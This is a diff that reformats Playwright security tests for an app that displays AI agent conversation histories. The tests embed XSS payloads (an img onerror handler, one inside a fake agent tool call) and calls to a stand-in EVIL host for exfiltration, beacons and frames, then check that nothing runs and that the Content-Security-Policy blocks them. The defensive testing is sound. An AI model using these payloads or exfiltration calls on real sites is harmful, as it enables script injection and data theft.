@@ -26,13 +26,25 @@ const history = [
   {
     role: 'assistant',
     content: `Fetching ${payloads[3]}`,
-    tool_calls: [{ id: 'call_<b>1</b>', type: 'function', function: { name: `fetch<img src=x onerror="window.__pwned='tool'">`, arguments: JSON.stringify({ url: `${EVIL}/page`, html: all }) } }],
+    tool_calls: [
+      {
+        id: 'call_<b>1</b>',
+        type: 'function',
+        function: {
+          name: `fetch<img src=x onerror="window.__pwned='tool'">`,
+          arguments: JSON.stringify({ url: `${EVIL}/page`, html: all }),
+        },
+      },
+    ],
   },
   { role: 'tool', tool_call_id: 'call_<b>1</b>', content: `<html><body>${all}</body></html>` },
   { role: 'assistant', content: `Done. ${payloads[2]} ${payloads[0]}` },
 ];
 
-test('hostile content renders as text, runs nothing, and nothing leaves the origin', async ({ page, baseURL }) => {
+test('hostile content renders as text, runs nothing, and nothing leaves the origin', async ({
+  page,
+  baseURL,
+}) => {
   const requests: string[] = [];
   const dialogs: string[] = [];
   const errors: string[] = [];
@@ -49,7 +61,11 @@ test('hostile content renders as text, runs nothing, and nothing leaves the orig
   expect(csp).toContain("img-src 'self' data: blob:");
   expect(csp).toContain("object-src 'none'");
 
-  await page.getByLabel('Choose a history file').setInputFiles({ name: 'hostile.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(history)) });
+  await page.getByLabel('Choose a history file').setInputFiles({
+    name: 'hostile.json',
+    mimeType: 'application/json',
+    buffer: Buffer.from(JSON.stringify(history)),
+  });
   const timeline = page.getByRole('region', { name: 'Timeline' });
   await expect(timeline.getByText('Timeline · 4 steps')).toBeVisible();
   // The payloads are shown as the text they are.
@@ -75,26 +91,40 @@ test('hostile content renders as text, runs nothing, and nothing leaves the orig
   await expect(page.getByRole('table').first()).toContainText('<script>');
   await page.getByRole('tab', { name: 'Compare strategies' }).click();
   await page.getByRole('button', { name: 'Compare three framework defaults' }).click();
-  await expect(page.getByRole('table', { name: 'Strategy summary' }).getByRole('row')).toHaveCount(5);
-  await expect(page.getByRole('region', { name: 'Context at call' })).toContainText('Context at call');
+  await expect(page.getByRole('table', { name: 'Strategy summary' }).getByRole('row')).toHaveCount(
+    5,
+  );
+  await expect(page.getByRole('region', { name: 'Context at call' })).toContainText(
+    'Context at call',
+  );
 
   // Nothing ran and nothing was fetched from anywhere but the app.
-  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
+  expect(
+    await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned),
+  ).toBeUndefined();
   expect(dialogs).toEqual([]);
-  expect(await page.locator('iframe, img[src*="evil"], a[href^="javascript:"], svg[onload]').count()).toBe(0);
+  expect(
+    await page.locator('iframe, img[src*="evil"], a[href^="javascript:"], svg[onload]').count(),
+  ).toBe(0);
   const origin = new URL(baseURL ?? '').origin;
-  const foreign = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith('blob:'));
+  const foreign = requests.filter(
+    (u) => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith('blob:'),
+  );
   expect(foreign).toEqual([]);
   expect(requests.length).toBeGreaterThan(3);
   expect(errors).toEqual([]);
 });
 
-test('the Content-Security-Policy refuses what a successful injection would try', async ({ page }) => {
+test('the Content-Security-Policy refuses what a successful injection would try', async ({
+  page,
+}) => {
   await page.goto('/');
   // Refused by the policy (a violation is reported), not merely unreachable from this machine.
   const violations = await page.evaluate(async (evil) => {
     const seen: string[] = [];
-    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
+    document.addEventListener('securitypolicyviolation', (e) =>
+      seen.push(`${e.effectiveDirective} ${e.blockedURI}`),
+    );
     await fetch(`${evil}/exfiltrate`).catch(() => undefined);
     await new Promise<void>((resolve) => {
       const img = new Image();
@@ -108,5 +138,9 @@ test('the Content-Security-Policy refuses what a successful injection would try'
     frame.remove();
     return seen.sort();
   }, EVIL);
-  expect(violations).toEqual([`connect-src ${EVIL}/exfiltrate`, `frame-src ${EVIL}`, `img-src ${EVIL}/beacon.png`]);
+  expect(violations).toEqual([
+    `connect-src ${EVIL}/exfiltrate`,
+    `frame-src ${EVIL}`,
+    `img-src ${EVIL}/beacon.png`,
+  ]);
 });
